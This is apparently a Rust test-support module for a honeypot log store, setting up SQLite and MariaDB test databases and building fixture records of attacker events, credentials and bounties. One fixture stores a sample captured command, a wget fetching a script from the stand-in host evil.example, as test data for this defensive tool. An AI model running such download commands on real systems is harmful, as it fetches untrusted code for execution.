//! Databases for tests: a file in a temporary directory, or a database of its own on a MariaDB server that lives as long as
//! the test program.

use crate::server::Server;
use model::Micros;
use std::{
    path::PathBuf,
    sync::{
        OnceLock,
        atomic::{AtomicU32, Ordering},
    },
};
use store::{Batch, Config, NewBounty, NewCredential, NewLog, Position, Recorded, Store};
use tempfile::TempDir;

/// Runs one test on both backends.
macro_rules! on_every_backend {
    ($($(#[$meta:meta])* async fn $name:ident($world:ident: &World) $body:block)*) => {
        $(async fn $name($world: &World) $body)*
        mod sqlite {
            $($(#[$meta])* #[test] fn $name() { crate::world::run(crate::world::World::sqlite(), |world| Box::pin(async move { super::$name(&world).await })); })*
        }
        mod mariadb {
            $($(#[$meta])* #[test] fn $name() { crate::world::run(crate::world::World::mariadb(), |world| Box::pin(async move { super::$name(&world).await })); })*
        }
    };
}
pub(crate) use on_every_backend;

pub(crate) struct World {
    pub(crate) store: Store,
    pub(crate) config: Config,
    _dir: Option<TempDir>,
}

impl World {
    pub(crate) async fn sqlite() -> Self {
        let dir = TempDir::new().unwrap();
        let config = Config::Sqlite(dir.path().join("decnet.db"));
        Self { store: Store::open(&config).await.unwrap(), config, _dir: Some(dir) }
    }

    pub(crate) async fn mariadb() -> Self {
        static NEXT: AtomicU32 = AtomicU32::new(1);
        let name = format!("test_{}", NEXT.fetch_add(1, Ordering::Relaxed));
        let socket = server();
        sql(&format!("CREATE DATABASE {name} CHARACTER SET utf8mb4 COLLATE utf8mb4_bin")).await;
        let config = Config::MySql(format!("mysql://root@localhost/{name}?socket={}", socket.display()));
        Self { store: Store::open(&config).await.unwrap(), config, _dir: None }
    }

    /// Records logs at the end of the spool `test`.
    pub(crate) async fn record(&self, batch: Batch) -> (i64, i64) {
        let from = self.store.spool_position("test").await.unwrap();
        let to = Position { segment: from.segment, offset: from.offset + 1 };
        match self.store.record(&Batch { spool: "test".into(), from, to, ..batch }).await.unwrap() {
            Recorded::Now { first_log, last_log } => (first_log, last_log),
            other => panic!("{other:?}"),
        }
    }

    pub(crate) async fn logs(&self, logs: Vec<NewLog>) -> (i64, i64) {
        self.record(Batch { logs, ..Batch::default() }).await
    }

    /// Lets the index of words catch up.
    pub(crate) async fn index(&self) {
        for _ in 0..100 {
            if self.store.index_text(1_000).await.unwrap() == 0 {
                return;
            }
        }
        panic!("the index never catches up");
    }

    pub(crate) async fn kill_connections(&self) {
        let Config::MySql(url) = &self.config else { return };
        let name = url.rsplit('/').next().map_or("", |_| url.split('/').nth(3).unwrap()).split('?').next().unwrap().to_owned();
        use sqlx::Row as _;
        let mut admin = admin().await;
        let rows =
            sqlx::query("SELECT ID FROM information_schema.PROCESSLIST WHERE DB = ?").bind(name).fetch_all(&mut admin).await.unwrap();
        assert!(!rows.is_empty());
        for row in rows {
            let id: i64 = row.try_get_unchecked(0).unwrap();
            sqlx::query(sqlx::AssertSqlSafe(format!("KILL {id}"))).execute(&mut admin).await.unwrap();
        }
    }
}

pub(crate) fn run<F>(world: impl Future<Output = World>, test: F)
where
    F: FnOnce(World) -> std::pin::Pin<Box<dyn Future<Output = ()>>>,
{
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let world = world.await;
        test(world).await;
    });
}

pub(crate) fn uuid(n: u32) -> String {
    format!("0193a2b4-0000-7000-8000-{n:012x}")
}

/// 2026-11-23T00:00:00Z
pub(crate) const DAY: i64 = 1_795_392_000_000_000;

pub(crate) fn at(seconds: i64) -> Micros {
    Micros(DAY + seconds * 1_000_000)
}

/// A log with the number `n` at second `n` of the day.
pub(crate) fn log(n: u32) -> NewLog {
    NewLog {
        event_uuid: uuid(n),
        at: at(i64::from(n)),
        decky: "local:web-01".into(),
        service: "ssh".into(),
        event_type: "command".into(),
        attacker_ip: "192.0.2.1".into(),
        src_port: Some(40_000),
        dst_port: Some(22),
        session_id: Some(uuid(1_000_000)),
        fields: format!(r#"{{"command":"wget http://evil.example/x{n}.sh"}}"#),
        msg: format!("ran command number{n}"),
    }
}

pub(crate) fn credential(ip: &str, principal: &str, secret: &str) -> NewCredential {
    use sha2::Digest as _;
    NewCredential {
        at: at(1),
        attacker_ip: ip.into(),
        decky_name: "web-01".into(),
        service: "ssh".into(),
        principal: Some(principal.into()),
        secret_kind: "plaintext".into(),
        secret_sha256: hex::encode(sha2::Sha256::digest(secret.as_bytes())),
        secret_b64: "c2VjcmV0".into(),
        secret_printable: secret.into(),
        outcome: "failure".into(),
        fields: "{}".into(),
    }
}

pub(crate) fn bounty(ip: &str, kind: &str, payload: &str) -> NewBounty {
    NewBounty {
        at: at(2),
        decky: "local:web-01".into(),
        service: "http".into(),
        attacker_ip: ip.into(),
        bounty_type: kind.into(),
        payload: payload.into(),
    }
}

async fn admin() -> sqlx::MySqlConnection {
    use sqlx::{ConnectOptions as _, mysql::MySqlConnectOptions};
    MySqlConnectOptions::new().socket(server()).username("root").connect().await.unwrap()
}

pub(crate) async fn sql(text: &str) {
    sqlx::query(sqlx::AssertSqlSafe(text.to_owned())).execute(&mut admin().await).await.unwrap();
}

/// The socket of the server all tests share, started once.
fn server() -> PathBuf {
    static SERVER: OnceLock<PathBuf> = OnceLock::new();
    SERVER
        .get_or_init(|| {
            let server = Server::start();
            let socket = server.socket.clone();
            // Lives as long as this program.
            std::mem::forget(server);
            socket
        })
        .clone()
}
